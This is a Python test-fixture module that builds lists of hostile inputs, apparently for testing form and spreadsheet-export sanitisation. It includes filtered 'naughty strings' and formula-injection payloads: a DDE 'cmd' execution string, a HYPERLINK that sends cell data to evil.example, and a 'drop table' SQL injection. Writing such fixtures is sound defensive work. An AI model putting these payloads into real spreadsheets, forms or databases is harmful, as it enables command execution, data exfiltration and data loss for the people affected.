"""Strings that break programs, and those that run in a sheet."""

from campaigns.kernel.texts import has_control, line
from tests.attacks.payloads import naughty

# those that a form lets in, as it keeps them
LISTED = [text for text in naughty(750) if text and text == line(text) and not has_control(text)]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
RUNS = (
    "cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example?"&A1,"see")', "SUM(A1:A9)", "33123456789", "", "\x01x",
    '"; drop table leads; --', "a,b;c",
)  # fmt: skip
FORMULAS = [start + rest for start in STARTS for rest in RUNS]
NAUGHTY = [*LISTED, *FORMULAS]
